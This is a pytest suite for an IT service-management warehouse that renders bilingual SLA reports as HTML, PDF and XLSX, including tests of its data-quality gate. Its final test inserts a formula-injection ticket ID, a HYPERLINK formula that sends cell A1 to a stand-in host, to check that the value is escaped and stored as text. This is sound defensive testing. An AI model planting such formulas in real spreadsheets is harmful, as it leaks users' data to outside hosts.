"""The service report, rendered from hand-written mart rows in a real PostgreSQL; the data-quality gate."""

from __future__ import annotations

import re
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import psycopg
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from support.report_fixture import FIXTURE
from typer.testing import CliRunner

from itss_warehouse.cli import app
from itss_warehouse.reports.data_quality import ReportBlocked
from itss_warehouse.reports.formatting import Period
from itss_warehouse.reports.kinds import KINDS
from itss_warehouse.reports.pdf import MissingFontError, html_to_pdf
from itss_warehouse.reports.rendering import FORMATS, RenderedReport, render_period

TEMPLATES_DIR = Path(__file__).resolve().parents[2] / "reports"
OCTOBER = Period("month", date(2026, 10, 1))


@pytest.fixture(scope="module")
def url(create_database) -> str:
    return create_database("report")


@pytest.fixture(scope="module")
def conn(url):
    with psycopg.connect(url, autocommit=True) as connection:
        connection.execute(FIXTURE)
        yield connection


@pytest.fixture(scope="module")
def output_dir(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("reports")


def render(url: str, output_dir: Path, period: Period = OCTOBER, **options) -> list[RenderedReport]:
    return render_period(
        KINDS["service_report"], url, period, output_dir, TEMPLATES_DIR, **{"formats": ("html",), **options}
    )


@pytest.fixture(scope="module")
def zh_reports(conn, url, output_dir) -> list[RenderedReport]:
    return render(url, output_dir)


def compact(path: Path) -> str:
    """The HTML without whitespace between tags, so table rows read as one string."""
    return re.sub(r">\s+<", "><", path.read_text(encoding="utf-8"))


def numbers(*values: object) -> str:
    """Right-aligned number cells as the template writes them."""
    return "".join(f'<td class="num">{value}</td>' for value in values)


def durations(*values: object) -> str:
    """Duration cells (hours and minutes) as the template writes them."""
    return "".join(f'<td class="num duration">{value}</td>' for value in values)


def report_for(reports: list[RenderedReport], project_id: str) -> str:
    return compact(next(report.path for report in reports if report.unit_id == project_id))


def test_one_report_per_active_project(zh_reports, output_dir):
    assert [(r.unit_id, r.period, r.language) for r in zh_reports] == [
        ("PRJ-A", OCTOBER, "zh-CN"),
        ("PRJ-B", OCTOBER, "zh-CN"),
    ]
    assert zh_reports[0].path == output_dir / "service_report" / "2026-10" / "PRJ-A.zh-CN.html"
    assert sorted(p.name for p in zh_reports[0].path.parent.iterdir()) == ["PRJ-A.zh-CN.html", "PRJ-B.zh-CN.html"]
    assert not list(output_dir.rglob("*.tmp"))


def test_header_and_sla_attainment(zh_reports):
    html = report_for(zh_reports, "PRJ-A")
    assert "<h1>服务报告 — 华东数据中心运维（华东银行）</h1>" in html
    assert '<p class="subtitle">2026年10月 · 运维一部</p>' in html
    assert "<td>2026-11-01 02:00（北京时间）</td>" in html
    assert "<td>本期</td>" + numbers("75.0%", "3 / 4", "95.0%") + '<td><span class="bad">未达标</span></td>' in html
    # January to October only, not the whole year's scorecard row (19 / 20, with later months).
    assert (
        "<td>本年累计</td>" + numbers("94.7%", "18 / 19", "95.0%") + '<td><span class="bad">未达标</span></td>' in html
    )
    assert "<th>未完成指标判定时点</th><td>2026-11-01 00:00（北京时间）</td>" in html
    assert "未完成指标判定时点" not in report_for(zh_reports, "PRJ-B")  # every metric done
    # Not the September (100.0%) or department (50.0%) rows; September is named as the previous period only.
    sla_table = html.split('<table class="sla">', 1)[1].split("</table>", 1)[0]
    # (The fixture's attainment before its exemption is 2 / 4, 50.0% too: not the department's.)
    without_before = re.sub(r'<table class="sla-before-exemptions">.*?</table>', "", html)
    assert "100.0%" not in sla_table and "50.0%" not in without_before


def test_sla_attainment_by_priority_and_metric(zh_reports):
    html = report_for(zh_reports, "PRJ-A")
    assert "<td>2026-10</td><td>P1</td>" + numbers("2 / 3", "66.7%", "33.3%", "—", "66.7%") in html
    assert "<td>2026-10</td><td>P3</td>" + numbers("0 / 1", "0.0%", "—", "—", "—") in html
    assert "<td>2026-09</td>" not in html  # another month


def test_ticket_volume_by_type_and_priority(zh_reports):
    html = report_for(zh_reports, "PRJ-A")
    assert "<td>事件</td>" + numbers(2, 1, 0, 0, 3) in html
    assert "<td>服务请求</td>" + numbers(0, 0, 1, 0, 1) in html
    assert "<td>变更</td>" + numbers(0, 0, 0, 1, 1) in html
    assert "<td>合计</td>" + numbers(2, 1, 1, 1, 5) in html
    assert "<td>问题</td>" not in html


def test_breach_list_shows_each_breached_metric_of_this_month(zh_reports):
    html = report_for(zh_reports, "PRJ-A")
    breaches = html.split("SLA 违约工单", 1)[1]
    response = (
        "<td>INC-1001</td><td>事件</td><td>P1</td><td>响应</td>"
        "<td>2026-10-05 09:30</td><td>2026-10-05 10:00</td><td>2026-10-05 10:15</td>"
        + durations("30分", "46分", "16分")
    )
    resolution = (
        "<td>INC-1001</td><td>事件</td><td>P1</td><td>解决</td>"
        "<td>2026-10-05 09:30</td><td>2026-10-05 13:30</td><td>未完成</td>"
        + durations("4小时0分", "5小时0分", "1小时0分")
    )
    assert response in breaches and resolution in breaches
    assert breaches.index(resolution) < breaches.index(response)  # the largest overrun first
    assert "INC-1002" not in breaches
    assert "INC-0901" not in html
    assert "法定节假日安排尚未发布" not in html


def test_exempted_tickets_are_listed_apart_with_their_reason(zh_reports):
    html = report_for(zh_reports, "PRJ-A")
    breaches, exemptions = html.split("SLA 违约工单", 1)[1].split("SLA 豁免工单", 1)
    assert "INC-1003" not in breaches  # exempted: not a breach against the SLA
    assert "本期经客户确认豁免的违约 1 项" in exemptions
    assert (
        "<td>INC-1003</td><td>解决</td>" + durations("1小时0分")
        + "<td>客户现场关闭</td><td>客户机房&lt;关闭&gt;，=1+1 无法进场</td><td>客户代表</td><td>2026-10-20</td>"
        '<td class="reference">ATT-&lt;7&gt;</td><td>视为达标</td>'
    ) in exemptions  # fmt: skip
    # The attainment after the exemption (3 / 4, above) and before it, for comparison.
    assert "<td>2026-10</td>" + numbers("50.0%", "2 / 4", 0) in html
    assert "本期无豁免工单" in report_for(zh_reports, "PRJ-B")
    assert "豁免前 SLA 达成率" not in report_for(zh_reports, "PRJ-B")


def test_resolution_breaches_are_shared_by_the_teams_that_held_the_tickets(zh_reports, url, tmp_path):
    html = report_for(zh_reports, "PRJ-A")
    teams = html.split("<h3>按处理组的解决超时</h3>", 1)[1].split("</table>", 1)[0]
    # INC-1001 only: INC-1003's breach is exempted, INC-0901's of September, Network PRJ-Z's.
    assert re.findall(r"<tr><td>(.*?)</td>", teams) == ["&lt;b&gt;Vendor&lt;/b&gt;", "Service Desk"]
    assert "<td>&lt;b&gt;Vendor&lt;/b&gt;</td>" + numbers(1, "0.75", 1) + durations("3小时45分") in teams
    assert "<td>Service Desk</td>" + numbers(0, "0.25", 1) + durations("1小时15分") in teams
    assert "Network" not in html
    assert "按处理组的解决超时" not in report_for(zh_reports, "PRJ-B")  # no breach held by a team
    # The organisation's process report: every project's teams, the largest share first.
    [process] = render_period(KINDS["process_report"], url, OCTOBER, tmp_path, TEMPLATES_DIR, formats=("html",))
    section = re.split(r"<h2[^>]*>按处理组的解决超时</h2>", compact(process.path), maxsplit=1)[1]
    rows = section.split("</table>", 1)[0]
    assert re.findall(r"<tr><td>(.*?)</td>", rows) == ["Network", "&lt;b&gt;Vendor&lt;/b&gt;", "Service Desk"]
    assert "<td>Network</td>" + numbers(1, "1", 1) + durations("2小时0分") in rows


def test_fallback_calendar_is_flagged(zh_reports):
    assert "部分时长按周一至周五工作日推算：该年度的法定节假日安排尚未发布。" in report_for(zh_reports, "PRJ-B")


def test_project_without_scorecard_row_says_so(zh_reports):
    html = report_for(zh_reports, "PRJ-B")
    assert "本期无纳入 SLA 考核的工单" in html
    assert "本年无纳入 SLA 考核的工单" in html
    assert "%</td>" not in html
    assert "本期无违约工单" in html
    assert "Desk &lt;Support&gt;（Acme &amp; Co）" in html


def test_a_customer_reads_how_many_of_its_records_are_held_back_not_the_rows(zh_reports):
    html = report_for(zh_reports, "PRJ-A")
    # PRJ-A's two October records; not June's, not another project's.
    assert "本期有 2 条源记录因数据质量问题暂未计入本报告" in html
    assert "tickets_2026-10.xlsx" not in html and "not a timestamp" not in html
    assert "本期有" not in report_for(zh_reports, "PRJ-B")


def test_an_internal_report_lists_its_periods_quarantined_records_once_each(conn, url, tmp_path):
    [report] = render_period(KINDS["process_report"], url, OCTOBER, tmp_path, TEMPLATES_DIR, formats=("html",))
    html = compact(report.path)
    assert '<span class="bad">3 行数据被隔离</span>' in html
    assert (
        "<td>tickets_2026-10.xlsx</td>"
        + numbers(42)
        # a reason the mapping writes, translated; one of unknown form as written
        + "<td>opened_at = 2026-13-01: 不是时间<br>opened_at = 2026-13-01: opened before resolved</td>"
    ) in html
    assert "<td>priority = —: priority is empty</td>" in html
    assert "PRJ-X" in html  # a record naming no known project: the organisation's report only
    assert "tickets_2026-06.xlsx" not in html


def test_quarantine_passed_when_empty(conn, url, tmp_path):
    conn.execute("create table restricted.quarantined_backup as table restricted.quarantined_records")
    try:
        conn.execute("delete from restricted.quarantined_records")
        [report, _] = render(url, tmp_path)
    finally:
        conn.execute("insert into restricted.quarantined_records table restricted.quarantined_backup")
        conn.execute("drop table restricted.quarantined_backup")
    html = compact(report.path)
    assert '<span class="ok">数据校验通过</span>' in html
    assert "本期有" not in html


def test_english_rendering_uses_english_labels(conn, url, tmp_path):
    as_of = datetime(2026, 11, 2, 6, 0, tzinfo=ZoneInfo("UTC"))
    reports = render(url, tmp_path, language="en", as_of=as_of)
    html = report_for(reports, "PRJ-A")
    assert reports[0].path.name == "PRJ-A.en.html"
    assert '<html lang="en">' in html
    assert "<h1>Service report — 华东数据中心运维 (华东银行)</h1>" in html
    assert '<p class="subtitle">October 2026 · 运维一部</p>' in html
    assert "<td>2026-11-02 14:00 (China Standard Time)</td>" in html
    assert "<td>This period</td>" + numbers("75.0%", "3 / 4") in html
    assert '<span class="bad">Not met</span>' in html
    assert "2 source record(s) of this period are held back" in html
    assert "<td>INC-1001</td><td>Incident</td>" in html
    assert "<td>Customer site closed</td>" in html and "<td>Counted as met</td>" in html
    labels_only = html.replace("华东数据中心运维", "").replace("华东银行", "").replace("运维一部", "")
    assert not re.search(r"[达标违约事件服务报告]", labels_only)
    assert "No SLA-measured tickets this period" in report_for(reports, "PRJ-B")


def test_rerendering_is_byte_identical(zh_reports, url, output_dir):
    before = {report.path: report.path.read_bytes() for report in zh_reports}
    again = render(url, output_dir)
    assert {report.path: report.path.read_bytes() for report in again} == before
    assert sorted(p.name for p in again[0].path.parent.iterdir()) == ["PRJ-A.zh-CN.html", "PRJ-B.zh-CN.html"]


def test_periods_are_checked(conn, url, tmp_path):
    with pytest.raises(ValueError, match="does not start a month"):
        Period("month", date(2026, 10, 15))
    with pytest.raises(ValueError, match="expected a period such as 2026-10"):
        Period.parse("10/2026")
    with pytest.raises(ValueError, match="the service_report takes a month period, got 2026-Q4"):
        render(url, tmp_path, Period.parse("2026-Q4"))


@pytest.fixture(scope="module")
def all_formats(conn, url, tmp_path_factory) -> dict[str, RenderedReport]:
    folder = tmp_path_factory.mktemp("formats")
    return {
        language: next(
            report for report in render(url, folder, language=language, formats=FORMATS) if report.unit_id == "PRJ-A"
        )
        for language in ("zh-CN", "en")
    }


def _pdf_text(path: Path) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(path).pages)


def test_every_format_in_both_languages(all_formats):
    for language, report in all_formats.items():
        assert sorted(report.files) == ["html", "pdf", "xlsx"]
        assert [path.name for path in report.files.values()] == [f"PRJ-A.{language}.{kind}" for kind in FORMATS]
    zh, en = (_pdf_text(all_formats[language].files["pdf"]) for language in ("zh-CN", "en"))
    assert "SLA 达成情况" in zh and "第 1 页 / 共" in zh
    assert "SLA attainment" in en and "Page 1 of" in en
    workbook = load_workbook(all_formats["en"].files["xlsx"])
    assert workbook.sheetnames == ["Cover", "KPIs", "SLA breaches", "Breaches by team", "Tickets", "Improvement items"]
    assert [cell.value for cell in workbook["Tickets"]["A"]] == [
        "Ticket", "INC-1001", "INC-1002", "INC-1003", "SR-1001", "CHG-1001"
    ]  # fmt: skip
    assert workbook["Tickets"].freeze_panes == "A2"


def test_a_kpi_value_is_the_same_in_html_pdf_and_xlsx(all_formats):
    report = all_formats["zh-CN"]
    # PRJ-A's October SLA attainment: 3 of 4 tickets, 75.0 %.
    assert numbers("75.0%", "3 / 4", "95.0%") in compact(report.files["html"])
    assert "75.0% 3 / 4 95.0%" in _pdf_text(report.files["pdf"])
    kpis = load_workbook(report.files["xlsx"])["指标"]
    row = next(row for row in kpis.iter_rows(min_row=2) if row[0].value == "SLA_ATTAINMENT")
    assert [cell.value for cell in row] == ["SLA_ATTAINMENT", "SLA达成率", 3, 4, 0.75, 0.95, None, "未达标"]
    assert (row[4].number_format, row[5].number_format) == ("0.0%", "0.0%")
    # The KPIs the report states, and no other (the scorecard's CHANGE_SUCCESS is not in the PDF).
    assert [row[0].value for row in kpis.iter_rows(min_row=2)] == ["SLA_ATTAINMENT"]  # callbacks: not in the catalogue


def test_the_pdf_embeds_a_cjk_font(all_formats):
    fonts = {
        str(font.get_object()["/BaseFont"])
        for page in PdfReader(all_formats["zh-CN"].files["pdf"]).pages
        for font in page["/Resources"]["/Font"].values()
    }
    assert any("CJK" in font for font in fonts), fonts


def test_no_cjk_font_is_a_clear_error(tmp_path, monkeypatch):
    # A fontconfig that knows no font directory: what a machine without CJK fonts looks like.
    config = tmp_path / "fonts.conf"
    config.write_text(f"<?xml version='1.0'?><fontconfig><cachedir>{tmp_path}</cachedir></fontconfig>")
    monkeypatch.setenv("FONTCONFIG_FILE", str(config))
    with pytest.raises(MissingFontError, match="fonts-noto-cjk"):
        html_to_pdf("<p>服务报告</p>")


def test_rerendering_every_format_is_byte_identical(url, all_formats, tmp_path):
    again = render(url, tmp_path, formats=FORMATS)
    first = all_formats["zh-CN"].files
    for kind, path in next(report for report in again if report.unit_id == "PRJ-A").files.items():
        assert path.read_bytes() == first[kind].read_bytes(), kind


def test_command_line_renders_the_named_project_in_the_asked_formats(conn, url, tmp_path):
    env = {"ITSS_WAREHOUSE_URL": url, "ITSS_HOME": str(tmp_path)}
    arguments = [
        "report",
        "service",
        "--period",
        "2026-10",
        "--project",
        "PRJ-B",
        "--lang",
        "en",
        "--format",
        "html,pdf",
    ]
    result = CliRunner().invoke(app, arguments, env=env)
    assert result.exit_code == 0, result.output
    folder = tmp_path / "output" / "service_report" / "2026-10"
    assert sorted(path.name for path in folder.iterdir()) == ["PRJ-B.en.html", "PRJ-B.en.pdf"]
    ended = CliRunner().invoke(app, ["report", "service", "--period", "2026-10", "--project", "PRJ-OLD"], env=env)
    assert ended.exit_code != 0 and "no service_report for PRJ-OLD in 2026-10" in str(ended.exception)


def test_process_satisfaction_leftover_and_improvement_sections(zh_reports):
    html = report_for(zh_reports, "PRJ-A")
    assert "<td>INC-1001</td><td>P1</td><td>网络</td>" in html  # the month's major incident
    assert "<td>变更</td>" + numbers(1, 1, 0, 0) in html
    assert "本期现场服务 1 次，远程服务 4 次。" in html
    assert "本期已解决事件 3 个，7 天内回访 2 个，回访率 66.7%。" in html
    assert "<td>事件回访</td>" + numbers(1, "100.0", 0) in html
    assert "<td>项目满意度调查</td>" + numbers(2, "70.0", 1) in html
    assert "年度满意度调查" not in html  # answered in 2025, not this period
    assert "<td>LI-0901</td>" in html and "<td>LI-0903</td>" in html  # open at October's end
    assert "LI-0902" not in html and "LI-1101" not in html  # resolved in October; raised in November
    assert (
        "<td>指标未达标</td><td>SLA达成率</td><td>PRJ-A<br>2026-10-01 (月)<br>"
        '<span class="recurring">重复发生（上次：2026-08-01，验证有效）</span></td><td class="num">75.0% / 95.0%</td>'
        in html
    )
    assert "<br>2026-08-01 (月)" not in html  # due before October began: named as the earlier miss only
    # marts carry the manager's pseudonym only; the report names them
    assert html.count("<td>李四</td>") == 1 and "9c0ffee5d00d1e57" not in html  # once, though 李四 runs two projects
    quiet = report_for(zh_reports, "PRJ-B")
    for note in (
        "本期无重大事件",
        "本期无变更与发布",
        "本期无已解决事件，不计回访率",
        "本期末无未关闭的遗留问题",
        "无待改进事项",
    ):
        assert note in quiet


def test_a_quarterly_project_is_reported_on_when_its_quarter_closes(zh_reports, url, tmp_path):
    assert "PRJ-Q" not in [report.unit_id for report in zh_reports]  # October does not close a quarter
    september = render(url, tmp_path, Period.parse("2026-09"))
    assert [(report.unit_id, report.period.slug) for report in september] == [
        ("PRJ-A", "2026-09"),
        ("PRJ-OLD", "2026-09"),
        ("PRJ-Q", "2026-Q3"),
    ]
    quarterly = september[-1].path
    assert quarterly == tmp_path / "service_report" / "2026-Q3" / "PRJ-Q.zh-CN.html"
    assert '<p class="subtitle">2026年第3季度 · 运维一部</p>' in compact(quarterly)


def _latest_run(conn, scope: str, warnings: list[str], failures: list[str]) -> None:
    conn.execute(
        "insert into raw.validation_runs (scope, checked, quarantined_rows, warnings, failures)"
        " values (%s, 1, 0, %s, %s)",
        (scope, warnings, failures),
    )


def _forget_runs_after(conn, run_id: int) -> None:
    conn.execute("delete from raw.validation_runs where run_id > %s", (run_id,))


def test_validation_warnings_are_stated_in_internal_reports_only(conn, url, tmp_path):
    before = conn.execute("select max(run_id) from raw.validation_runs").fetchone()[0]
    _latest_run(conn, "marts", ["marts.kpi_scorecard: 1 row(s) fail 'CSAT within 0–100'", "second warning"], [])
    try:
        report = render(url, tmp_path)[0]
    finally:
        _forget_runs_after(conn, before)
    html = compact(report.path)
    # Warnings are the latest run's, about its files, not the customer's period: the gate passed, it says so.
    assert '<span class="ok">数据校验通过</span>' in html and "条警告" not in html
    assert "second warning" not in html and "CSAT within" not in html
    _latest_run(conn, "marts", ["second warning"], [])
    try:
        [internal] = render_period(KINDS["process_report"], url, OCTOBER, tmp_path, TEMPLATES_DIR, formats=("html",))
    finally:
        _forget_runs_after(conn, before)
    assert '<span class="bad">校验通过，1 条警告</span>' in compact(internal.path)
    assert "<li>second warning</li>" in compact(internal.path)


FAILURE = "tickets.csv, column priority: 5 row(s) fail 'priority mapped'"


def test_failed_marts_validation_produces_no_report(conn, url, tmp_path):
    before = conn.execute("select max(run_id) from raw.validation_runs").fetchone()[0]
    _latest_run(conn, "marts", [], [FAILURE])
    try:
        with pytest.raises(ReportBlocked, match="the marts failed validation: tickets.csv, column priority: 5 row"):
            render(url, tmp_path)
    finally:
        _forget_runs_after(conn, before)
    assert list(tmp_path.iterdir()) == []


def test_a_current_batch_that_failed_produces_no_report_until_withdrawn(conn, url, tmp_path):
    before = conn.execute("select max(run_id) from raw.validation_runs").fetchone()[0]
    conn.execute("update raw.load_batches set validation_failures = %s where batch_id = 2", ([FAILURE],))
    try:
        # The gate reads the batch's own verdict: a later raw run that passed does not open it.
        _latest_run(conn, "raw", [], [])
        with pytest.raises(ReportBlocked, match=r"tickets_2026-10.xlsx \(batch 2\) failed validation: tickets.csv"):
            render(url, tmp_path)
        assert list(tmp_path.iterdir()) == []
        conn.execute("update raw.load_batches set withdrawn_at = now() where batch_id = 2")
        assert render(url, tmp_path)
    finally:
        conn.execute("update raw.load_batches set validation_failures = '{}', withdrawn_at = null")
        _forget_runs_after(conn, before)


def test_withdrawals_are_named_in_internal_reports_and_counted_in_the_customers(conn, url, tmp_path):
    for month, records in (("2026-10-01", 3), ("2026-09-01", 5)):
        conn.execute(
            "insert into restricted.withdrawn_batches values (7, 'tickets_2026-10-20.csv', '2026-11-02 09:30+08',"
            " '王质量', '<b>导出范围错误</b>', 'PRJ-A', %s, %s)",
            (month, records),
        )
    try:
        customer = compact(render(url, tmp_path)[0].path)
        [internal] = render_period(KINDS["process_report"], url, OCTOBER, tmp_path, TEMPLATES_DIR, formats=("html",))
    finally:
        conn.execute("delete from restricted.withdrawn_batches")
    # The customer's: October's three records, never the file, who or why.
    assert "本期有 3 条源记录所在的导出文件因数据问题已撤回，未计入本报告" in customer
    assert "tickets_2026-10-20.csv" not in customer and "王质量" not in customer and "导出范围错误" not in customer
    html = compact(internal.path)
    assert "tickets_2026-10-20.csv" in html and "王质量" in html and "2026-11-02 09:30" in html
    assert "&lt;b&gt;导出范围错误&lt;/b&gt;" in html and "<b>导出" not in html  # source text, escaped


def test_marts_never_validated_produce_no_report(conn, url, tmp_path):
    conn.execute("create table raw.runs_backup as table raw.validation_runs")
    try:
        conn.execute("delete from raw.validation_runs where scope = 'marts'")
        with pytest.raises(ReportBlocked, match="never been validated"):
            render(url, tmp_path)
    finally:
        conn.execute("insert into raw.validation_runs select * from raw.runs_backup where scope = 'marts'")
        conn.execute("drop table raw.runs_backup")


def test_the_breach_list_shows_a_summary_and_the_largest_overruns_the_appendix_all(conn, url, tmp_path):
    [report, _] = render(url, tmp_path, formats=("html", "xlsx"), breaches_shown=1)
    html = compact(report.path)
    assert "<p>本期违约 2 项（响应 1、解决 1），合计超时 1小时16分。</p>" in html
    assert "以下列出超时最多的 1 项；全部违约明细见 XLSX 附件「SLA违约」工作表。" in html
    breaches = html.split("SLA 违约工单</h2>", 1)[1].split("重大事件", 1)[0]
    assert "<td>解决</td>" in breaches and "<td>响应</td>" not in breaches  # 60 minutes over, not 15.5
    sheet = load_workbook(report.files["xlsx"])["SLA违约"]
    assert [(row[0].value, row[3].value) for row in sheet.iter_rows(min_row=2)] == [
        ("INC-1001", "响应"),
        ("INC-1001", "解决"),
    ]


def test_a_project_without_a_department_shows_no_none(conn, url, tmp_path):
    conn.execute("update marts.dim_projects set dept_id = null, department_name = null where project_id = 'PRJ-B'")
    try:
        html = report_for(render(url, tmp_path), "PRJ-B")
    finally:
        conn.execute(
            "update marts.dim_projects set dept_id = 'D2', department_name = '运维二部' where project_id = 'PRJ-B'"
        )
    assert "None" not in html
    assert '<p class="subtitle">2026年10月</p>' in html
    assert "<tr><th>所属部门</th><td>—</td></tr>" in html


def test_both_priority_bases_are_named(zh_reports):
    html = report_for(zh_reports, "PRJ-A")
    assert "按优先级统计时采用 SLA 适用优先级（默认为工单受理时的优先级）" in html
    assert "按工单当前优先级统计。" in html


def test_a_hostile_ticket_id_is_text_in_the_workbook_and_escaped_in_the_html(conn, url, tmp_path):
    hostile = '=HYPERLINK("http://x.example/"&A1,"<b>click</b>")'
    conn.execute(
        "insert into marts.fct_tickets (ticket_id, ticket_type, project_id, priority, opened_at, opened_month, status,"
        " sla_status) values (%s, 'incident', 'PRJ-B', 'P3', '2026-10-21 02:00+00', '2026-10-01', 'new', 'breached')",
        (hostile,),
    )
    conn.execute(
        "insert into marts.sla_breaches values (%s, 'response', 'PRJ-B', '2026-10-01', 'P3', '2026-10-21 02:00+00',"
        " '2026-10-21 03:00+00', null, 60, 90, 30)",
        (hostile,),
    )
    try:
        report = next(r for r in render(url, tmp_path, formats=("html", "xlsx")) if r.unit_id == "PRJ-B")
    finally:
        conn.execute("delete from marts.fct_tickets where ticket_id = %s", (hostile,))
        conn.execute("delete from marts.sla_breaches where ticket_id = %s", (hostile,))
    assert "&lt;b&gt;click&lt;/b&gt;" in report.path.read_text(
        encoding="utf-8"
    ) and "<b>click" not in report.path.read_text(encoding="utf-8")
    workbook = load_workbook(report.files["xlsx"])
    for title in ("SLA违约", "工单明细"):
        [cell] = [cell for cell in workbook[title]["A"] if cell.value == hostile]
        assert cell.data_type == "s", title
